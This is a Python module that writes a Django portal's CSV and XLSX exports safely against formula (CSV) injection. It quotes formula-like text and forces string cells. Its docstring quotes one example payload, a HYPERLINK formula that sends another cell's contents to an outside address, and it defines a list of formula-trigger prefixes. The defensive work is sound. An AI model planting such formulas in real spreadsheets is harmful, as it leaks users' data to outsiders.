"""Every CSV and XLSX file the portal writes, with no cell that a spreadsheet would run as a formula.

A spreadsheet reads a cell that starts with "=", "+", "-" or "@" (or their full-width forms, which
some spreadsheets take for the same characters), a tab or a carriage return as a formula: a name
set to `=HYPERLINK("http://…?"&A1,"click")` becomes a link that sends another cell's contents to an
outside address (CSV or formula injection). So:

- in CSV, such text is written with a single quote before it (OWASP's advice), which a spreadsheet
  shows as text; the portal's imports take the quote off again (FORMULA_PREFIXES says when);
- in XLSX, every text is a string cell (type "s"), never a formula, so it reads back exactly as
  entered and shows no quote. (A carriage return reads back as a line feed: XML keeps no other.)

Numbers stay numbers and dates dates (in CSV, dates as YYYY-MM-DD); None is an empty cell.

`write_csv`, `write_xlsx` and `write_table` write the network, attendance and bulk exports;
`CSVFormat` and `XLSXFormat` are django-import-export's formats for every admin (settings
IMPORT_EXPORT_FORMATS and EXPORT_FORMATS), so the admin's exports are written here too.
"""

import codecs
import csv
import datetime
import io
from collections.abc import Callable, Iterable
from decimal import Decimal

from django.utils import timezone
from import_export.formats import base_formats
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

CSV, XLSX = "csv", "xlsx"
# The content type of each file the portal writes, for its download.
CONTENT_TYPES = {
    CSV: "text/csv; charset=utf-8",
    XLSX: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}

# A spreadsheet reads text that starts with one of these as a formula: = + - @ (and their
# full-width forms, U+FF1D U+FF0B U+FF0D U+FF20), a tab or a carriage return.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

NUMBERS = (int, float, Decimal)
XLSX_NATIVE = (*NUMBERS, datetime.date, datetime.time)  # numbers, dates and times, as themselves
PROGRESS_EVERY = 1000


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def _local(value: datetime.datetime) -> datetime.datetime:
    """A date and time in the portal's time zone, without it (spreadsheets hold no time zone)."""
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def safe_cell(value):
    """A value as a CSV cell: numbers as they are, dates as YYYY-MM-DD, None as empty, True and
    False as Yes and No, and text a spreadsheet would take as a formula with a single quote before it."""
    if type(value) is str:  # nearly every cell
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, NUMBERS):
        return value
    if isinstance(value, datetime.datetime):
        return _local(value).isoformat(sep=" ")
    if isinstance(value, datetime.date | datetime.time):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_formula_like(text) else text


def _xlsx_value(sheet, value):
    """A value as an XLSX cell: numbers and dates as themselves, text always as a string cell."""
    if type(value) is not str:  # nearly every cell is text
        if value is None:
            return None
        if isinstance(value, bool):
            return "Yes" if value else "No"
        if isinstance(value, datetime.datetime):
            return _local(value)
        if isinstance(value, XLSX_NATIVE):
            return value
        value = str(value)
    text = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters no XLSX file may hold
    if text.startswith(FORMULA_PREFIXES) or text in ERROR_CODES:
        # openpyxl would write these as a formula or an error value: written as a string instead.
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"
        return cell
    return text  # any other text openpyxl writes as a string cell


def write_csv(headers: list, rows: Iterable, progress: Callable[[int], None] | None = None) -> bytes:
    """UTF-8 with a byte-order mark (which Excel needs to read UTF-8), every cell made safe."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(value) for value in headers])
    for count, row in enumerate(rows, start=1):
        writer.writerow([safe_cell(value) for value in row])
        if progress is not None and count % PROGRESS_EVERY == 0:
            progress(count)
    return codecs.BOM_UTF8 + out.getvalue().encode("utf-8")


def write_xlsx(headers: list, rows: Iterable, title: str, progress: Callable[[int], None] | None = None) -> bytes:
    """One sheet, named `title` (cut to the 31 characters a sheet name may have), written a row at a
    time (openpyxl's write-only mode); every text a string cell."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31] or "Sheet1")
    sheet.append([_xlsx_value(sheet, value) for value in headers])
    for count, row in enumerate(rows, start=1):
        sheet.append([_xlsx_value(sheet, value) for value in row])
        if progress is not None and count % PROGRESS_EVERY == 0:
            progress(count)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def write_table(
    file_format: str, headers: list, rows: Iterable, title: str, progress: Callable[[int], None] | None = None
) -> bytes:
    """The rows as CSV or XLSX (`file_format` "csv" or "xlsx")."""
    if file_format == CSV:
        return write_csv(headers, rows, progress)
    if file_format == XLSX:
        return write_xlsx(headers, rows, title, progress)
    raise ValueError(f"Unknown export format: {file_format}")


# django-import-export


class CSVFormat(base_formats.CSV):
    """The admin's CSV export, written by `write_csv` (bytes, UTF-8 with a byte-order mark, like
    every CSV file the portal writes); reading a CSV upload is import-export's own."""

    def export_data(self, dataset, **kwargs):
        return write_csv(dataset.headers or [], dataset)


class XLSXFormat(base_formats.XLSX):
    """The admin's XLSX export, written by `write_xlsx`; reading an XLSX upload is import-export's own."""

    def export_data(self, dataset, **kwargs):
        return write_xlsx(dataset.headers or [], dataset, title=dataset.title or "Export")


# import-export hands numbers and dates to the formats in this list as they are (to the others as
# text): XLSXFormat writes them as numbers and dates, as import-export's own XLSX format does.
if XLSXFormat not in base_formats.BINARY_FORMATS:
    base_formats.BINARY_FORMATS.append(XLSXFormat)

FORMATS = [CSVFormat, XLSXFormat]
